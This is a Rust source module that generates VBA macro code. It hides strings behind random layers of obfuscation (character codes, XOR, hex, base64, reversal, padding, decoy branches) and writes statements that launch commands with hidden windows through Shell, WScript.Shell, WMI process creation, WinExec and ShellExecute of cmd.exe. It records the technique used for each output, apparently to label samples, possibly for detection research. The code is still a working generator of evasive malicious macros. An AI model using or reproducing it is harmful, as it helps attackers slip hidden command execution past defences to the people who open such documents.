//! Strings and launchers.

use super::{Macro, quoted};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

impl Macro {
    /// Returns an expression that gives a text, hidden so many times over.
    pub fn text(&mut self, text: &str, depth: usize) -> String {
        if depth == 0 || text.is_empty() {
            return quoted(text);
        }
        match self.seed.below(22) {
            0 => self.characters(text),
            1 => {
                self.kinds.push("reverse");
                let turned: String = text.chars().rev().collect();
                format!("StrReverse({})", self.text(&turned, depth - 1))
            }
            2 => self.replaced(text, depth),
            3 => self.split(text, depth),
            4 | 5 => self.halves(text, depth),
            6 => self.shuffled(text),
            7 => self.xored_numbers(text),
            8 => self.hexadecimal(text),
            9 => self.decimal(text),
            10 => self.keyed(text),
            11 => self.shifted(text, depth),
            12 => self.base64_of_msxml(text),
            13 => self.base64_of_its_own(text),
            14 | 15 => {
                let inner = self.stored(text);
                format!("({inner} & \"\")")
            }
            16 => self.padded(text, depth),
            17 => self.by_reference(text, depth),
            18 => self.chosen(text, depth),
            19 => self.bytes(text),
            20 => self.mid_statement(text),
            _ => self.every_second(text, depth),
        }
    }

    fn characters(&mut self, text: &str) -> String {
        self.kinds.push("characters");
        let parts: Vec<String> = text
            .bytes()
            .map(|byte| {
                let function = self.seed.pick(&["Chr", "Chr$", "ChrW", "VBA.Chr", "Strings.Chr"]);
                match self.seed.below(5) {
                    0 => format!("{function}(&H{byte:X})"),
                    1 => {
                        let more = 1 + self.seed.below(90);
                        format!("{function}({} - {more})", usize::from(byte) + more)
                    }
                    2 => format!("{function}(CLng({} / 2))", u32::from(byte) * 2),
                    3 => format!("{function}(Asc({}))", quoted(&char::from(byte).to_string())),
                    _ => format!("{function}({byte})"),
                }
            })
            .collect();
        format!("({})", parts.join(" & "))
    }

    fn replaced(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("replace");
        let mark = self.seed.pick(&["~", "{", "|", "^", "#@", "<>"]);
        let mixed: String = text
            .chars()
            .flat_map(|c| [c.to_string(), mark.to_owned()])
            .collect();
        if text.contains(mark) {
            return quoted(text);
        }
        format!("Replace({}, \"{mark}\", \"\")", self.text(&mixed, depth - 1))
    }

    fn split(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("split");
        let mark = self.seed.pick(&["~", "}", "!", "%%"]);
        if text.contains(mark) {
            return quoted(text);
        }
        let parted: Vec<String> = text.chars().map(String::from).collect();
        let inner = self.text(&parted.join(mark), depth - 1);
        match self.seed.below(2) {
            0 => format!("Join(Split({inner}, \"{mark}\"), \"\")"),
            _ => {
                let (name, item) = (self.name(), self.name());
                self.functions.push(format!(
                    "Function {name}(s)\nDim {item}\nFor Each {item} In Split(s, \"{mark}\")\n{name} = {name} & {item}\nNext {item}\nEnd Function"
                ));
                format!("{name}({inner})")
            }
        }
    }

    fn halves(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("pieces");
        let middle = self.seed.below(text.len());
        let (left, right) = text.split_at(middle);
        let (left, right) = (self.text(left, depth - 1), self.text(right, depth - 1));
        let join = self.seed.pick(&["&", "+"]);
        format!("({left} {join} {right})")
    }

    fn shuffled(&mut self, text: &str) -> String {
        self.kinds.push("alphabet");
        let mut alphabet: Vec<char> = text.chars().collect();
        alphabet.sort_unstable();
        alphabet.dedup();
        for at in (1..alphabet.len()).rev() {
            alphabet.swap(at, self.seed.below(at + 1));
        }
        let name = self.name();
        let letters = quoted(&alphabet.iter().collect::<String>());
        self.functions.push(format!("Function {name}(ParamArray p())\nDim a, i\na = {letters}\nFor i = 0 To UBound(p)\n{name} = {name} & Mid$(a, p(i), 1)\nNext\nEnd Function"));
        let places: Vec<String> = text
            .chars()
            .map(|c| (alphabet.iter().position(|own| *own == c).unwrap_or(0) + 1).to_string())
            .collect();
        format!("{name}({})", places.join(", "))
    }

    fn xored_numbers(&mut self, text: &str) -> String {
        self.kinds.push("array with a constant");
        let key = 1 + self.seed.below(255);
        let name = self.name();
        let (numbers, back): (Vec<usize>, String) = match self.seed.below(3) {
            0 => (
                text.bytes().map(|b| usize::from(b) ^ key).collect(),
                format!("n(i) Xor {key}"),
            ),
            1 => (
                text.bytes().map(|b| usize::from(b) + key).collect(),
                format!("n(i) - {key}"),
            ),
            _ => (
                text.bytes().map(|b| usize::from(b) * 3).collect(),
                "n(i) \\ 3".to_owned(),
            ),
        };
        let numbers: Vec<String> = numbers.iter().map(usize::to_string).collect();
        self.functions.push(format!(
            "Function {name}() As String\nDim i, n\nn = Array({})\nFor i = LBound(n) To UBound(n)\n{name} = {name} & Chr({back})\nNext\nEnd Function",
            numbers.join(", ")
        ));
        format!("{name}()")
    }

    fn hexadecimal(&mut self, text: &str) -> String {
        self.kinds.push("hexadecimal");
        let hex: String = text.bytes().map(|b| format!("{b:02x}")).collect();
        let name = self.name();
        self.functions.push(format!("Function {name}(ByVal h As String) As String\nDim p As Long: p = 1\nDo While p < Len(h)\n{name} = {name} & Chr$(CLng(\"&H\" & Mid$(h, p, 2)))\np = p + 2\nLoop\nEnd Function"));
        let stored = self.text(&hex, 1);
        format!("{name}({stored})")
    }

    fn decimal(&mut self, text: &str) -> String {
        self.kinds.push("decimal");
        let numbers: Vec<String> = text.bytes().map(|b| format!("{b:03}")).collect();
        let name = self.name();
        self.functions.push(format!("Function {name}(t)\nDim i As Integer, r As String\ni = 1\nWhile i < Len(t)\nr = r + Chr(Val(Mid(t, i, 3)))\ni = i + 3\nWend\n{name} = r\nEnd Function"));
        format!("{name}(\"{}\")", numbers.concat())
    }

    fn keyed(&mut self, text: &str) -> String {
        self.kinds.push("xor with a key");
        let key = self.seed.letters(3, 8);
        let bytes: Vec<u8> = text
            .bytes()
            .zip(key.bytes().cycle())
            .map(|(a, b)| a ^ b)
            .collect();
        let hex: String = bytes.iter().map(|b| format!("{b:02X}")).collect();
        let name = self.name();
        self.functions.push(format!("Function {name}(d As String, k As String) As String\nDim i As Long, c As Integer\nFor i = 1 To Len(d) Step 2\nc = CInt(\"&H\" & Mid(d, i, 2)) Xor Asc(Mid(k, ((i \\ 2) Mod Len(k)) + 1, 1))\n{name} = {name} & Chr(c)\nNext i\nEnd Function"));
        format!("{name}(\"{hex}\", {})", quoted(&key))
    }

    fn shifted(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("shift");
        let by = 1 + self.seed.below(20) as u8;
        if text.bytes().any(|b| !(0x20..0x7f - 20).contains(&b)) {
            return self.halves(text, depth);
        }
        let moved: String = text.bytes().map(|b| char::from(b + by)).collect();
        let name = self.name();
        self.functions.push(format!("Public Function {name}(ByVal s As String, Optional n As Integer = {by}) As String\nDim i As Integer, o As String\nFor i = 1 To Len(s)\no = o & Chr(Asc(Mid(s, i, 1)) - n)\nNext\n{name} = o\nEnd Function"));
        format!("{name}({})", self.text(&moved, depth - 1))
    }

    fn base64_of_msxml(&mut self, text: &str) -> String {
        self.kinds.push("base64 of msxml");
        let name = self.name();
        let class = self
            .seed
            .pick(&["MSXML2.DOMDocument", "Msxml2.DOMDocument.3.0", "Microsoft.XMLDOM"]);
        self.functions.push(format!("Function {name}(b)\nDim x, n\nSet x = CreateObject(\"{class}\")\nSet n = x.createElement(\"b64\")\nn.dataType = \"bin.base64\"\nn.Text = b\n{name} = StrConv(n.nodeTypedValue, vbUnicode)\nEnd Function"));
        format!("{name}(\"{}\")", STANDARD.encode(text))
    }

    fn base64_of_its_own(&mut self, text: &str) -> String {
        self.kinds.push("base64 by hand");
        let name = self.name();
        self.functions.push(format!("Function {name}(ByVal s As String) As String\nConst A = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\nDim i As Long, j As Long, w As Long, v As Long, o As String\nFor i = 1 To Len(s) Step 4\nw = 0\nFor j = 0 To 3\nIf Mid(s, i + j, 1) = \"=\" Then\nv = 0\nElse\nv = InStr(1, A, Mid(s, i + j, 1), vbBinaryCompare) - 1\nEnd If\nw = w * 64 + v\nNext j\no = o & Chr((w \\ 65536) And 255)\nIf Mid(s, i + 2, 1) <> \"=\" Then o = o & Chr((w \\ 256) And 255)\nIf Mid(s, i + 3, 1) <> \"=\" Then o = o & Chr(w And 255)\nNext i\n{name} = o\nEnd Function"));
        format!("{name}(\"{}\")", STANDARD.encode(text))
    }

    fn padded(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("padding");
        let (before, behind) = (self.seed.below(9), self.seed.below(9));
        let padded = format!("{}{text}{}", "z".repeat(before), "q".repeat(behind));
        let inner = self.text(&padded, depth - 1);
        match self.seed.below(3) {
            0 => format!("Mid({inner}, {}, {})", before + 1, text.len()),
            1 => format!("Left(Right({inner}, {}), {})", text.len() + behind, text.len()),
            _ => format!("Right(Left({inner}, {}), {})", before + text.len(), text.len()),
        }
    }

    fn by_reference(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("by reference");
        let (outer, inner, held) = (self.name(), self.name(), self.name());
        let text = self.text(text, depth - 1);
        self.functions.push(format!(
            "Sub {inner}(ByRef target As String)\ntarget = {text}\nEnd Sub"
        ));
        self.functions.push(format!(
            "Function {outer}()\nDim {held} As String\nCall {inner}({held})\n{outer} = {held}\nEnd Function"
        ));
        outer
    }

    fn chosen(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("choice");
        let (right, wrong) = (self.text(text, depth - 1), quoted(&self.seed.letters(3, 9)));
        let number = self.seed.below(50);
        match self.seed.below(3) {
            0 => format!("IIf({number} < 60, {right}, {wrong})"),
            1 => format!("Choose(2, {wrong}, {right}, {wrong})"),
            _ => format!("Switch({number} > 60, {wrong}, True, {right})"),
        }
    }

    fn bytes(&mut self, text: &str) -> String {
        self.kinds.push("bytes");
        let name = self.name();
        let lines: Vec<String> = text
            .bytes()
            .enumerate()
            .map(|(at, b)| format!("b({at}) = {b}"))
            .collect();
        self.functions.push(format!(
            "Function {name}() As String\nDim b() As Byte\nReDim b({})\n{}\n{name} = StrConv(b, 64)\nEnd Function",
            text.len() - 1,
            lines.join(": ")
        ));
        name
    }

    fn mid_statement(&mut self, text: &str) -> String {
        self.kinds.push("mid statement");
        let name = self.name();
        let lines: Vec<String> = text
            .chars()
            .enumerate()
            .map(|(at, c)| format!("Mid(s, {}, 1) = {}", at + 1, quoted(&c.to_string())))
            .collect();
        self.functions.push(format!(
            "Function {name}() As String\nDim s As String\ns = Space$({})\n{}\n{name} = s\nEnd Function",
            text.len(),
            lines.join("\n")
        ));
        format!("{name}()")
    }

    fn every_second(&mut self, text: &str, depth: usize) -> String {
        self.kinds.push("every second");
        let mixed: String = text
            .chars()
            .flat_map(|c| [char::from(b'a' + self.seed.below(26) as u8), c])
            .collect();
        let name = self.name();
        self.functions.push(format!("Function {name}(s)\nDim i, r\ni = 2\nDo Until i > Len(s)\nr = r & Mid(s, i, 1)\ni = i + 2\nLoop\n{name} = r\nEnd Function"));
        format!("{name}({})", self.text(&mixed, depth - 1))
    }

    /// Returns the statements that start a command, and how the start is told.
    pub fn launch(&mut self, expression: &str, command: &str) -> (String, String) {
        let object = self.name();
        let plain = command.to_owned();
        match self.seed.below(10) {
            0 | 1 => (format!("Shell {expression}, vbHide"), plain),
            2 => (format!("Call Shell({expression}, 0)"), plain),
            3 => {
                self.kinds.push("run");
                let class = self.text("WScript.Shell", 1);
                (
                    format!(
                        "Dim {object} As Object\nSet {object} = CreateObject({class})\n{object}.Run {expression}, 0, False"
                    ),
                    plain,
                )
            }
            4 => {
                self.kinds.push("exec");
                (
                    format!("CreateObject(\"WScript.Shell\").Exec ({expression})"),
                    plain,
                )
            }
            5 => {
                self.kinds.push("wmi");
                let moniker = self.text("winmgmts:\\\\.\\root\\cimv2:Win32_Process", 1);
                (
                    format!(
                        "Set {object} = GetObject({moniker})\n{object}.Create {expression}, Null, Null, p"
                    ),
                    plain,
                )
            }
            6 => {
                self.kinds.push("new");
                (
                    format!(
                        "With GetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\")\n.Run {expression}\nEnd With"
                    ),
                    plain,
                )
            }
            7 => {
                self.kinds.push("call by name");
                (
                    format!(
                        "CallByName CreateObject(\"WScript.Shell\"), \"R\" & \"un\", VbMethod, {expression}, 0"
                    ),
                    plain,
                )
            }
            8 => {
                self.kinds.push("declare");
                self.functions.push(format!("Private Declare PtrSafe Function {object} Lib \"kernel32\" Alias \"WinExec\" (ByVal l As String, ByVal n As Long) As Long"));
                (format!("{object} {expression}, 0"), plain)
            }
            _ => {
                self.kinds.push("shell application");
                let started = format!("cmd.exe {command}");
                (
                    format!(
                        "CreateObject(\"Shell.Application\").ShellExecute \"cmd.exe\", {expression}, \"\", \"open\", 0"
                    ),
                    if command.is_empty() {
                        "cmd.exe".to_owned()
                    } else {
                        started
                    },
                )
            }
        }
    }
}
